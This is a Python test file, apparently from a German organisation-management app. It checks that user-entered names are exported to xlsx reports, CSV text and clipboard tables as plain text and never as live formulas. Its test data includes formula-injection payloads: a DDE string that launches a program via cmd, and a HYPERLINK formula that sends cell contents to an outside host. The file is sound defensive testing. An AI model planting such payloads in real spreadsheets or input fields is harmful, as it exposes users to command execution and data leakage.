"""Promise 18: no formula leaves: what she typed is text in every spreadsheet, and comes back unchanged.

Here through a real vault and a real report; every cell's own tricks: `tests/reports/test_render_xlsx.py`.
"""

import csv
import io
import re
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from sqlalchemy.orm import Session

from app.common.formulas import unguarded
from app.models import Event, EventStatus, Organisation
from app.papers import reports
from app.reports.forms.printed_list import ListColumn, ListOptions, PrintedList, render_table, render_text
from app.reports.xlsx.cells import could_be_formula
from app.services.actors import organisations
from app.services.events import events
from app.views.shared.lists.copying import as_table
from tests.faults.children import opened
from tests.faults.conftest import Figure
from tests.faults.filled import Filled

TRICKS = ("=1+1", "+49 7627", "-3", "@SUM(A1)", '=HYPERLINK("http://x/"&A1)', "=cmd|' /C calc'!A0", "\t=1", "%0A=1")


def _hostile_names(session: Session) -> None:
    for number, trick in enumerate(TRICKS):
        organisations.save(session, Organisation(name=trick))
        event = Event(name=trick, starts_at=datetime(2026, 10, 7 + number, 15), place=trick, status=EventStatus.HELD)
        events.save(session, event)


@pytest.mark.parametrize(("name", "period"), [(reports.MONTHLY, "2026-10"), (reports.YEARLY, "2026")])
def test_no_report_holds_a_formula(vault: Filled, name: str, period: str) -> None:
    with opened(vault.folder, vault.key) as context:
        context.write("Probe", _hostile_names)
        report = context.read(reports.REPORTS[name], reports.period_of(name, period))
    data = reports.FORMATS[".xlsx"](report)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert cells
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells if could_be_formula(cell.value))
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        assert not [part for part in packed.namelist() if "worksheets" in part and b"<f>" in packed.read(part)]


def test_a_list_of_people_gives_back_exactly_what_was_typed(figure: Figure) -> None:
    """The other spreadsheet that leaves, and what goes onto the clipboard for one."""
    rows = tuple((trick, trick) for trick in TRICKS)
    columns = (ListColumn("Nachname"), ListColumn("Notiz"))
    listed = PrintedList("Liste", columns, rows, "Gemeinde", "", "", date(2026, 11, 23), "")
    book = openpyxl.load_workbook(io.BytesIO(render_table(listed, ListOptions())))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells if could_be_formula(cell.value))
    found = [cell.value for cell in cells]
    assert [trick for trick in TRICKS if found.count(trick) != 2] == []
    figure((len(TRICKS), "Formeln in Tabellen und Zwischenablage"), (0, "als Formel angekommen"))


def test_a_table_as_text_gives_it_back_to_whoever_takes_the_guard_off() -> None:
    rows = tuple((trick, "1") for trick in TRICKS)
    listed = PrintedList("Liste", (ListColumn("Nachname"), ListColumn("Zahl", right=True)), rows)
    text = render_text(listed, ListOptions()).decode("utf-8-sig")
    found = [row[0] for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")][1:]
    assert not [cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [unguarded(cell) for cell in found] == list(TRICKS)


@pytest.mark.parametrize("trick", [*TRICKS, "\r=1", " =1", "-cmd", "+1+cmd", "= 1", "\n@x"])
def test_the_clipboard_holds_none(trick: str) -> None:
    """As a CSV would: = + - @ TAB CR; telephone numbers stay what they are."""
    text = as_table(["Name"], [[trick, "x"]]).text.data().decode()
    (_head, row) = text.removesuffix("\n").split("\n")
    (cell, _x) = row.split("\t")
    assert cell[:1] not in ("=", "@", "\t", "\r")
    assert cell[:1] not in ("+", "-") or not re.search("[^-+0-9 ()/.,]", cell)
